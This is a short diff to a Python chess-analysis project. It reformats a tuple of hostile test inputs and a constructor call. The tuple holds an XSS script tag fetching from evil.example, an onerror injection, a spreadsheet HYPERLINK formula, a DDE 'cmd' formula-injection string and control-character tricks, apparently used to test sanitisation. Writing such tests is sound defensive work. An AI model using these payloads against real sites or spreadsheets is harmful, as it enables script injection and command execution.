@@ -41,11 +41,11 @@ TRAPS = Path(__file__).resolve().parent.parent / "data" / "open_set.jsonl"
 HOSTILE = (
     "<script>document.title='owned';fetch('https://evil.example/x')</script>",
     "</script><img src=x onerror=\"document.title='owned'\">",
-    '"quoted" \'single\' -- ; drop { } [%cal Ra1a8] \\ $1 (paren)',
+    "\"quoted\" 'single' -- ; drop { } [%cal Ra1a8] \\ $1 (paren)",
     "\u202eright to left\u202c \u2067isolate\u2069 \x1b[31mred\x1b[0m \x00nul \u2028line",
     '=HYPERLINK("https://evil.example","click")',
     "+1+cmd|' /C calc'!A0",
-    "% percent start\n% next\n[Event \"forged\"]\n\n1. e4 *",
+    '% percent start\n% next\n[Event "forged"]\n\n1. e4 *',
     "Ünïcödé Жук 将棋 ♞",
 )
 
@@ -148,7 +148,12 @@ def twin(board: chess.Board, slip: chess.Move) -> LookAlike:
     else:
         names = ("e4",)
     return LookAlike(
-        fen=other.fen(en_passant="legal"), line=(), cp_best=20, cp_move=15, squares=names, reason="The square is covered."
+        fen=other.fen(en_passant="legal"),
+        line=(),
+        cp_best=20,
+        cp_move=15,
+        squares=names,
+        reason="The square is covered.",
     )
 
 
